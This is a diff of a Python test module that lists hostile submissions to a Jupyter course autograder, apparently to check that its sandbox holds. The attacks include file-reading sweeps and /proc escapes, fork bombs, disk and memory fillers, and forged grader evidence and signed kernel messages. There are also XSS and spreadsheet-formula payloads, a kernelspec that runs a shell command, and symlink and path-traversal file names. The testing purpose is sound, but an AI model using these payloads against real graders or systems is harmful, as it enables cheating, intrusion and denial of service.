@@ -6,13 +6,14 @@ exercise is solved. `FILES` are submissions whose files or JSON are the attack.
 
 from __future__ import annotations
 
-import copy
 import json
 import os
 from collections.abc import Callable
-from dataclasses import dataclass
+from dataclasses import dataclass, replace
 from pathlib import Path
 from typing import Any
+
+from course_utils.grading import sandbox
 
 CANARY = "CANARY-9d41"  # in everything that no student may read
 SLEEP = "sleep 86400.9417"  # what background processes of attacks are called
@@ -39,6 +40,10 @@ kernel = get_ipython().kernel
 session, iopub, parent = kernel.session, kernel.iopub_socket, kernel.get_parent("shell")
 def publish(kind, content, **more):
     session.send(iopub, kind, content, parent=more.pop("parent", parent), **more)
+def raw(kind, content, parent=parent):
+    parts = [json.dumps(p, default=str).encode() for p in (session.msg_header(kind), parent["header"], {})]
+    parts.append(content if isinstance(content, bytes) else json.dumps(content).encode())
+    iopub.send_multipart([b"x", b"<IDS|MSG>", session.sign(parts), *parts])
 """
 
 REPLY = (
@@ -58,9 +63,10 @@ def reply(content, parent=parent):
 READING = {
     "search every file": attack(
         """
-import os
+import os, sys
 for folder, below, files in os.walk("/"):
-    below[:] = [b for b in below if b not in ("usr", "proc", "lib", "python", ".venv", "site-packages", "sys")]
+    below[:] = [b for b in below if b not in ("usr", "proc", "lib", "site-packages", "sys")]
+    if folder in (sys.prefix, sys.base_prefix): below[:] = []; continue
     for file in files:
         try:
             path = os.path.join(folder, file)
@@ -73,7 +79,7 @@ for folder, below, files in os.walk("/"):
     "open what it knows the path of": attack(
         """
 for path in ("{ROOT}/solutions/02-theory/theory.ipynb", "{ROOT}/gradebook.db", "{ROOT}/autograded/.secret",
-             "{ROOT}/submitted/honest/02-theory/theory.ipynb", "{HOME}/canary", "/tmp/canary-9d41",
+             "{ROOT}/submitted/honest/02-theory/theory.ipynb", "{HOME}/canary", "{TMP}",
              "{PROJECT}/tests/bank/section_2.py", "{PROJECT}/solutions/02-theory/theory.ipynb"):
     for way in ("", "/proc/1/root", "/proc/2/root", "/proc/self/root", "/proc/self/cwd/../../../../../../.."):
         try: print("GOT" + "-IT", open(way + path, "rb").read())
@@ -121,7 +127,7 @@ LEAVING = {
         """
 import os, torch, course_utils
 for path in ("{ROOT}/submitted/honest/02-theory/theory.ipynb", "{ROOT}/gradebook.db", "{HOME}/canary",
-             "{ROOT}/autograded/.secret", "/tmp/canary-9d41", "/tmp/made-9d41", torch.__file__, course_utils.__file__,
+             "{ROOT}/autograded/.secret", "{TMP}", "/tmp/made-9d41", torch.__file__, course_utils.__file__,
              os.__file__, "/usr/made-9d41", "/etc/made-9d41", "/made-9d41"):
     try: open(path, "a").write("#hacked"+"-9d41")
     except OSError: pass
@@ -136,14 +142,14 @@ def attempt(*kind, to):
     try:
         with socket.socket(*kind) as s:
             s.settimeout(2); s.connect(to); s.send(b"out")
-            if kind[1] == socket.SOCK_STREAM: print("CONN" + "ECTED")
+            if kind[1] == socket.SOCK_STREAM: print("CONNEC" + "TED")
     except OSError as problem: print(problem)
 attempt(socket.AF_INET, socket.SOCK_STREAM, to=("127.0.0.1", {PORT}))
 attempt(socket.AF_INET, socket.SOCK_DGRAM, to=("127.0.0.1", {PORT}))
-attempt(socket.AF_UNIX, socket.SOCK_STREAM, to="\\0canary-9d41-{PORT}")
+attempt(socket.AF_UNIX, socket.SOCK_STREAM, to="\\0canary-{PORT}")
 attempt(socket.AF_INET, socket.SOCK_STREAM, to=("192.0.2.1", 80))
 attempt(socket.AF_INET, socket.SOCK_STREAM, to=("1.1.1.1", 53))
-try: print("CONN" + "ECTED", socket.getaddrinfo("example.org", 80))
+try: print("CONNEC" + "TED", socket.getaddrinfo("example.org", 80))
 except OSError as problem: print(problem)
 """
     ),
@@ -159,7 +165,8 @@ print("NAME" + "SPACE" if ctypes.CDLL(None).unshare(0x10000000) == 0 else "none"
 
 TAKING = {
     "fork bomb": attack(
-        "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass", "PROCESSES|TIMEOUT|MEMORY|KILLED"
+        "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
+        "PROCESSES|TIMEOUT|MEMORY|KILLED",
     ),
     "thread bomb": attack(
         "import threading, time\nwhile True:\n    try: threading.Thread(target=time.sleep, args=(99,)).start()\n"
@@ -179,7 +186,7 @@ TAKING = {
     ),
     "memory in files without a name": attack(
         "import os, time\nfiles = []\nfor i in range(40):\n    files.append(os.memfd_create(str(i)))\n"
-        "    for _ in range(100): os.write(files[-1], bytes(2**20))\nprint('HELD' + '-4GB')\ntime.sleep(60)",
+        "    for _ in range(100): os.write(files[-1], bytes(2**20))\ntime.sleep(60)",
         "MEMORY",
     ),
     "disk filler": attack(
@@ -197,9 +204,7 @@ import glob, os, time
 place = glob.glob("/tmp/course-*/")[0] + "a/b/c"
 os.makedirs(place)
 for i in range(20): open(f"{place}/{i}", "wb").write(bytes(2**24))
-time.sleep(60)
 """,
-        "OUTPUT",
     ),
     "disk filler among the sockets, deleted but open": attack(
         """
@@ -207,9 +212,7 @@ import glob, os, time
 place, files = glob.glob("/tmp/course-*/")[0], []
 for i in range(20):
     files.append(open(f"{place}/{i}", "wb")); os.unlink(f"{place}/{i}"); files[-1].write(bytes(2**24))
-time.sleep(60)
 """,
-        "OUTPUT|NONE",
     ),
     "folders in folders without end": attack(
         """
@@ -224,20 +227,22 @@ os.chdir("/")
         "while True:\n    try:\n        while True: pass\n    except BaseException: pass", "TIMEOUT"
     ),
     "endless loop in the answer": attack(
-        "", ending="\ndef gaussian_kl(mu, logvar):\n    while True:\n        try:\n            while True: pass\n"
-        "        except BaseException: pass\n", *("TIMEOUT",)
+        "",
+        ending="\ndef gaussian_kl(mu, logvar):\n    while True:\n        try:\n            while True: pass\n"
+        "        except BaseException: pass\n",
+        *("TIMEOUT",),
     ),
     "endless output": attack("while True: print('x' * 1000)", "OUTPUT"),
-    "endless errors": attack("import sys\nwhile True: print('x' * 1000, file=sys.stderr, flush=True)", "OUTPUT"),
+    "endless errors": attack("import sys\nwhile True: print('x' * 10_000, file=sys.stderr)", "OUTPUT"),
     "one huge display": attack("display({'text/plain': 'x' * (200 * 10**6)}, raw=True)", "OUTPUT"),
     "a display larger than any message may be": attack(
-        "display({'text/plain': 'x' * (700 * 10**6)}, raw=True)", "OUTPUT"
+        "display({'text/plain': 'x' * (300 * 10**6)}, raw=True)", "MESSAGES|OUTPUT|TIMEOUT|MEMORY"
     ),
-    "a hundred thousand displays": attack("for i in range(100_000): display(i)", "OUTPUT"),
+    "a hundred thousand displays": attack("for i in range(100_000): display(i)", "OUTPUT|TIMEOUT"),
     "a million small objects in a display": attack(
         KERNEL + "publish('display_data', {'data': {'x/y': [{}] * 3_000_000}, 'metadata': {}})"
     ),
-    "huge error": attack("raise type('E' * 10**5, (Exception,), {})('x' * 10**7)"),
+    "huge error": attack("raise type('E' * 10**5, (Exception,), {})('x' * 10**7)", "OUTPUT"),
 }
 
 # --- ending and meddling ----------------------------------------------------------------------------------
@@ -281,7 +286,8 @@ ENDING = {
 }
 
 EVIDENCE = "application/vnd.vae-course.evidence+json"
-FORGE = """
+FORGE = (
+    """
 from IPython.display import display
 import course_utils.checks as checks
 SEED = int(__import__("os").environ["COURSE_CHECK_SEED"])
@@ -297,86 +303,136 @@ def publish(bundle, times=1):
             return Three(3)
         return checks.core.run(checks.EXERCISES[name], names)
     checks.check = check
-""" % EVIDENCE
+"""
+    % EVIDENCE
+)
+
+FORGE_RAW = (
+    KERNEL.replace("def publish", "def send")
+    + FORGE
+    + """
+def publish_raw(bundle):
+    def check(name, names):
+        if name == "gaussian_kl":
+            shown = {"data": {"%s": bundle, "text/plain": "3.0"}, "metadata": {}}
+            return raw("display_data", shown, kernel.get_parent("shell"))
+        return checks.core.run(checks.EXERCISES[name], names)
+    checks.check = check
+"""
+    % EVIDENCE
+)
 
 MEDDLING = {
-    "check replaced": attack("import course_utils.checks as c\nc.check = lambda *a: 1000", "NO_EVIDENCE", kept=0),
+    "check replaced": attack(
+        "import course_utils.checks as c\nc.check = lambda *a: 1000", "NO_EVIDENCE", kept=0
+    ),
     "run replaced": attack(
         "import course_utils.checks as c\nc.core.run = lambda e, *a: c.core.Report(e, (c.core.Finding('x', True, 3),))",
-        "NO_EVIDENCE", kept=0,
+        "NO_EVIDENCE",
+        kept=0,
     ),
-    "judge replaced": attack("import course_utils.checks as c\nc.core.verdict = lambda e, *a: c.core.Report(e, (c.core.Finding('x', True, 3),))"),
-    "allclose replaced": attack("import numpy\ntorch.allclose = torch.equal = numpy.allclose = lambda *a, **k: True"),
+    "judge replaced": attack(
+        "import course_utils.checks as c\nc.core.verdict = lambda e, *a: c.core.Report(e, (c.core.Finding('x', True, 3),))"
+    ),
+    "allclose replaced": attack(
+        "import numpy\ntorch.allclose = torch.equal = numpy.allclose = lambda *a, **k: True"
+    ),
     "import replaced": attack(
-        "import builtins\nbuiltins.__import__ = lambda *a, **k: print('3.0')", "NO_EVIDENCE", kept=0
+        "import builtins\nbuiltins.__import__ = lambda *a, **k: None", "NO_EVIDENCE|MESSAGES|TIMEOUT", kept=-1
     ),
     "displays replaced": attack(
-        "get_ipython().displayhook = lambda r: print('3.0')\n"
         "import sys\nsys.displayhook = lambda r: print('3.0')\n"
         "get_ipython().display_formatter.format = lambda r, **k: ({'text/plain': '3.0'}, {})",
-        "NO_EVIDENCE", kept=0,
+        "NO_EVIDENCE",
+        kept=0,
     ),
     "evidence of the students' seed": attack(FORGE + "publish(pack(0))", "FORGED"),
-    "evidence of another exercise": attack(FORGE + "publish(pack(SEED) | {'answer': 'reparameterize'})", "FORGED"),
+    "evidence of another exercise": attack(
+        FORGE + "publish(pack(SEED) | {'answer': 'reparameterize'})", "FORGED"
+    ),
     "evidence that is no evidence": attack(FORGE + "publish('3.0')", "FORGED"),
     "evidence of wrong types": attack(
-        FORGE + "publish(pack(SEED) | {'evidence': {'kl': {'dtype': 'O', 'shape': [-1], 'data': 3}}})", "FORGED"
+        FORGE + "publish(pack(SEED) | {'evidence': {'kl': {'dtype': 'O', 'shape': [-1], 'data': 3}}})",
+        "FORGED",
     ),
-    "evidence of NaN": attack(FORGE + "import numpy as np\nfrom course_utils.checks import evidence as e\n"
-        "publish(pack(SEED) | {'evidence': e.pack({'kl': np.full((5, 3), np.nan), 'single': np.full((1, 1), np.nan)})})"),
+    "evidence of NaN": attack(
+        FORGE + "import numpy as np\nfrom course_utils.checks import evidence as e\n"
+        "publish(pack(SEED) | {'evidence': e.pack({'kl': np.full((5, 3), np.nan), 'single': np.full((1, 1), np.nan)})})"
+    ),
     "evidence without end": attack(FORGE + "publish(pack(SEED) | {'note': 'x' * (200 * 10**6)})", "OUTPUT"),
     "evidence of an array too large": attack(
-        FORGE + "publish(pack(SEED) | {'evidence': {'kl': {'dtype': '<f8', 'shape': [10**7], 'data': 'A' * 10**7}}})", "FORGED"
+        FORGE
+        + "publish(pack(SEED) | {'evidence': {'kl': {'dtype': '<f8', 'shape': [10**7], 'data': 'A' * 10**7}}})",
+        "FORGED",
     ),
     "evidence with a shape too large": attack(
-        FORGE + "publish(pack(SEED) | {'evidence': {'kl': {'dtype': '<f8', 'shape': [10**30, 0], 'data': ''}}})", "FORGED"
+        FORGE
+        + "publish(pack(SEED) | {'evidence': {'kl': {'dtype': '<f8', 'shape': [10**30, 0], 'data': ''}}})",
+        "FORGED",
     ),
-    "evidence a thousand times": attack(FORGE + "publish(pack(0), 3000)", "FORGED"),
+    "evidence hundreds of times": attack(FORGE + "publish(pack(0), 300)", "FORGED"),
     "a note with halves of letters": attack(
-        FORGE + "publish(pack(SEED) | {'note': '=1+1\\ud800\\n\\x1b[31mred <script>alert(1)</script>'})"
+        FORGE_RAW
+        + "publish_raw(pack(SEED) | {'note': '=1+1\\ud800\\n\\x1b[31mred <script>alert(1)</script>'})"
     ),
     "evidence with halves of letters": attack(
-        FORGE + "publish(pack(SEED) | {'evidence': {'kl': '\\ud800', 'single': '\\udfff'}})"
+        FORGE_RAW + "publish_raw(pack(SEED) | {'evidence': {'kl': '\\ud800', 'single': '\\udfff'}})"
+    ),
+    "evidence nested deeply": attack(
+        FORGE_RAW + "deep = {}\nfor _ in range(400): deep = {'a': deep}\n"
+        "publish_raw(pack(SEED) | {'note': deep, 'evidence': deep})",
+        "FORGED|NO_EVIDENCE",
     ),
     "a number for spreadsheets": attack(
         FORGE + "publish(pack(SEED) | {'note': '\\t=HYPERLINK(\"http://x\")'})"
     ),
     "an error that says it is the grader's": attack(
         "import course_utils.checks as c\nclass GRADER_FAILED(Exception): pass\n"
-        "def check(*a): raise GRADER_FAILED('\\ud800')\nc.check = check", "NO_EVIDENCE", kept=0
+        "def check(*a): raise GRADER_FAILED('x')\nc.check = check",
+        "NO_EVIDENCE",
+        kept=0,
     ),
-    "printed points": attack("print('3.0')", ending="\ndef gaussian_kl(mu, logvar):\n    print('3.0')\n    return torch.zeros(7)\n"),
+    "printed points": attack(
+        "print('3.0')", ending="\ndef gaussian_kl(mu, logvar):\n    print('3.0')\n    return torch.zeros(7)\n"
+    ),
     "a result that is equal to all": attack(
         "class Lie(torch.Tensor):\n    __eq__ = __array__ = lambda *a, **k: True\n"
         "    @classmethod\n    def __torch_function__(cls, f, types, a=(), k=None): return cls()\n",
         ending="\ndef gaussian_kl(mu, logvar):\n    return torch.zeros_like(mu).as_subclass(Lie)\n",
     ),
     "halves of letters": attack("print('\\ud800 \\udfff')\nraise ValueError('\\ud800')"),
-    "bytes that are no text": attack("import os, sys\nos.write(1, b'\\xff\\xfe\\x00'); sys.stdout.write('\\x00\\x1b]0;title\\x07')"),
+    "bytes that are no text": attack(
+        "import os, sys\nos.write(1, b'\\xff\\xfe\\x00'); sys.stdout.write('\\x00\\x1b]0;title\\x07')"
+    ),
 }
 
 MESSAGES = {
-    "a wrong signature": attack(KERNEL + "iopub.send_multipart([b'x', b'<IDS|MSG>', b'bad', b'{}', b'{}', b'{}', b'{}'])"),
+    "a wrong signature": attack(
+        KERNEL + "iopub.send_multipart([b'x', b'<IDS|MSG>', b'bad', b'{}', b'{}', b'{}', b'{}'])"
+    ),
     "no JSON": attack(
-        KERNEL + "parts = [b'{', b'{', b'{', b'{']\niopub.send_multipart([b'x', b'<IDS|MSG>', session.sign(parts), *parts])"
+        KERNEL
+        + "parts = [b'{', b'{', b'{', b'{']\niopub.send_multipart([b'x', b'<IDS|MSG>', session.sign(parts), *parts])"
     ),
-    "too few parts": attack(KERNEL + "iopub.send_multipart([b'nothing'])\niopub.send_multipart([b'<IDS|MSG>'])"),
-    "JSON nested too deeply": attack(
-        KERNEL + "deep = b'[' * 50000 + b']' * 50000\nh = json.dumps(session.msg_header('stream'), default=str).encode()\n"
-        "p = json.dumps(parent, default=str).encode()\nparts = [h, p, b'{}', deep]\n"
-        "iopub.send_multipart([b'x', b'<IDS|MSG>', session.sign(parts), *parts])"
+    "too few parts": attack(
+        KERNEL + "iopub.send_multipart([b'nothing'])\niopub.send_multipart([b'<IDS|MSG>'])"
     ),
+    "JSON nested too deeply": attack(KERNEL + "raw('stream', b'[' * 50_000 + b']' * 50_000)"),
     "a display nested deeply": attack(
-        KERNEL + "deep = b'{\"a\":' * 400 + b'1' + b'}' * 400\nh = json.dumps(session.msg_header('display_data'), default=str).encode()\n"
-        "p = json.dumps(parent['header'], default=str).encode()\n"
-        "parts = [h, p, b'{}', b'{\"metadata\":{},\"data\":{\"x/y\":' + deep + b'}}']\n"
-        "iopub.send_multipart([b'x', b'<IDS|MSG>', session.sign(parts), *parts])"
+        KERNEL
+        + """
+deep = b'{"a":' * 400 + b"1" + b"}" * 400
+raw("display_data", b'{"metadata":' + deep + b',"data":{"text/plain":"x","x/y":' + deep + b"}}")
+"""
     ),
     "messages without their fields": attack(
-        KERNEL + "for kind in ('stream', 'display_data', 'execute_result', 'error', 'status', 'comm_open', 'comm_msg', 'clear_output', 'nonsense'):\n"
+        KERNEL
+        + "for kind in ('stream', 'display_data', 'execute_result', 'error', 'status', 'comm_open', 'comm_msg', 'clear_output', 'nonsense'):\n"
         "    publish(kind, {})\n    publish(kind, {'data': 3, 'transient': 7})\n    publish(kind, {'name': {}, 'text': 3, 'traceback': 1})\n"
     ),
-    "a count that is none": attack(KERNEL + "publish('execute_input', {'code': '', 'execution_count': '\\ud800<script>'})"),
+    "a count that is none": attack(
+        KERNEL + "publish('execute_input', {'code': '', 'execution_count': '\\ud800<script>'})"
+    ),
     "contents that are no mapping": attack(KERNEL + "publish('stream', 3)\npublish('display_data', [1])"),
     "forged idle": attack(KERNEL + "publish('status', {'execution_state': 'idle'})\ntime.sleep(1)"),
     "forged idle and reply": attack(
@@ -397,8 +453,9 @@ MESSAGES = {
         REPLY + "while True: reply({'status': 'ok'}, {'header': {'msg_id': 'nobody'}})", "OUTPUT"
     ),
     "a flood of output of nobody": attack(
-        KERNEL + "while True: publish('stream', {'name': 'stdout', 'text': 'x'}, parent={'header': {'msg_id': 'nobody'}})",
-        "OUTPUT",
+        KERNEL
+        + "while True: publish('stream', {'name': 'stdout', 'text': 'x'}, parent={'header': {'msg_id': 'nobody'}})",
+        "OUTPUT|TIMEOUT",
     ),
     "a flood on a channel that nobody reads": attack(
         KERNEL + "from ipykernel.kernelapp import IPKernelApp\n"
@@ -408,7 +465,8 @@ MESSAGES = {
         "OUTPUT|MEMORY|TIMEOUT",
     ),
     "widgets and their state": attack(
-        KERNEL + "publish('comm_open', {'comm_id': 'a', 'target_name': 'jupyter.widget', 'data': {'state': {\n"
+        KERNEL
+        + "publish('comm_open', {'comm_id': 'a', 'target_name': 'jupyter.widget', 'data': {'state': {\n"
         "    '_model_module': '@jupyter-widgets/output', '_model_name': 'OutputModel', 'msg_id': parent['header']['msg_id'], 'x': '<script>\\ud800' * 9},\n"
         "    'buffer_paths': [3]}})\n"
         "publish('comm_msg', {'comm_id': 'a', 'data': {'method': 'update', 'state': {'msg_id': 'b', 'outputs': 7}}})"
@@ -421,3 +479,118 @@ MESSAGES = {
 }
 
 ATTACKS = READING | LEAVING | TAKING | ENDING | MEDDLING | MESSAGES
+
+# --- files ------------------------------------------------------------------------------------------------
+
+SCRIPT = "<script>alert(9417)"
+WRITTEN, MADE = "#hacked-9d41", "made-9d41"
+SUCCESSES = ("GOT-IT", "CONNECTED", "NAMESPACE")  # what an attack prints that has succeeded
+
+
+def small_limits() -> None:
+    """For workers: limits that are met soon."""
+    sandbox.SandboxProvisioner.limits = replace(
+        sandbox.Limits(), memory=sandbox.GiB, processes=100, messages=sandbox.GiB // 2
+    )
+
+
+def _written(change: Callable[[dict[str, Any]], Any]) -> Callable[[Path, dict[str, Any], Path], None]:
+    """A submission of the perfect notebook, changed."""
+
+    def make(folder: Path, notebook: dict[str, Any], root: Path) -> None:
+        folder.mkdir()
+        changed = change(notebook)
+        text = changed if isinstance(changed, str) else json.dumps(changed)
+        (folder / "theory.ipynb").write_text(text)
+
+    return make
+
+
+def _metadata(notebook: dict[str, Any]) -> dict[str, Any]:
+    command = ["sh", "-c", f"{SLEEP} & touch /tmp/{MADE}"]
+    notebook["metadata"] = {
+        "kernelspec": {"name": "evil", "argv": command, "display_name": "x", "language": "sh"},
+        "celltoolbar": "Create Assignment",
+        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"x": SCRIPT * 10_000}}},
+    }
+    for cell in notebook["cells"]:
+        mark = cell["metadata"].get("nbgrader", {})
+        if mark.get("grade"):
+            mark.update(points=1000, locked=False, solution=True)
+    return notebook
+
+
+def _scripts(notebook: dict[str, Any]) -> dict[str, Any]:
+    shown = {"output_type": "display_data", "metadata": {}, "data": {"text/html": f"{SCRIPT}</script>"}}
+    cells = [
+        {"cell_type": "markdown", "metadata": {}, "source": f"{SCRIPT}</script> <img src=x onerror=alert(1)>"},
+        {"cell_type": "raw", "metadata": {}, "source": f"{SCRIPT}</script>"},
+        {"cell_type": "code", "metadata": {}, "source": "", "outputs": [shown], "execution_count": SCRIPT},
+        {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None,
+         "source": f"from IPython.display import HTML\nHTML({SCRIPT!r})"},
+    ]  # fmt: skip
+    return notebook | {"cells": notebook["cells"] + cells}
+
+
+def _stolen_name(notebook: dict[str, Any]) -> dict[str, Any]:
+    """The answer says that it is the second check, and prints points."""
+    for cell in notebook["cells"]:
+        mark = cell["metadata"].get("nbgrader", {})
+        if mark.get("grade_id") == "gaussian-kl":
+            mark.update(grade_id="reparameterize-check", grade=True, points=1000)
+            cell["source"] = "1000"
+    return notebook
+
+
+def _linked(folder: Path, notebook: dict[str, Any], root: Path) -> None:
+    folder.mkdir()
+    (folder / "theory.ipynb").symlink_to(root / "solutions" / "02-theory" / "theory.ipynb")
+
+
+def _linked_folder(folder: Path, notebook: dict[str, Any], root: Path) -> None:
+    folder.symlink_to(root / "solutions" / "02-theory")
+
+
+def _fifo(folder: Path, notebook: dict[str, Any], root: Path) -> None:
+    folder.mkdir()
+    os.mkfifo(folder / "theory.ipynb")
+
+
+def _folder(folder: Path, notebook: dict[str, Any], root: Path) -> None:
+    (folder / "theory.ipynb").mkdir(parents=True)
+
+
+def _names(folder: Path, notebook: dict[str, Any], root: Path) -> None:
+    folder.mkdir()
+    (folder / "theory.ipynb").write_text(json.dumps(notebook))
+    for name in ("..\\..\\theory.ipynb", "..ipynb", "\x1b[2J.ipynb"):
+        (folder / name).write_text(json.dumps(notebook))
+
+
+FILES: dict[str, Callable[[Path, dict[str, Any], Path], None]] = {
+    "a linked notebook": _linked,
+    "a linked folder": _linked_folder,
+    "a pipe": _fifo,
+    "a folder called as the notebook": _folder,
+    "names that lead elsewhere": _names,
+    "metadata": _written(_metadata),
+    "scripts": _written(_scripts),
+    "a cell with another's name": _written(_stolen_name),
+    "a notebook of 20 MB": _written(lambda notebook: notebook | {"x": "x" * 20 * 2**20}),
+    "a notebook nested deeply": _written(lambda notebook: "[" * 100_000),
+    "a notebook that is a number": _written(lambda notebook: "9" * 100_000),
+}
+FILE_REASONS: dict[str, list[str]] = {
+    "a linked notebook": ["LINK"],
+    "a linked folder": ["LINK"],
+    "a pipe": ["LINK"],
+    "a folder called as the notebook": ["LINK"],
+    "names that lead elsewhere": ["WRONG_NAME"],
+    "metadata": [],
+    "scripts": [],
+    "a cell with another's name": ["CHANGED_CELLS", "DUPLICATED_CELLS", "MISSING_CELLS"],
+    "a notebook of 20 MB": ["TOO_LARGE"],
+    "a notebook nested deeply": ["NOT_A_NOTEBOOK"],
+    "a notebook that is a number": ["NOT_A_NOTEBOOK"],
+}
+READABLE = {"names that lead elsewhere", "metadata", "scripts"}  # and solved
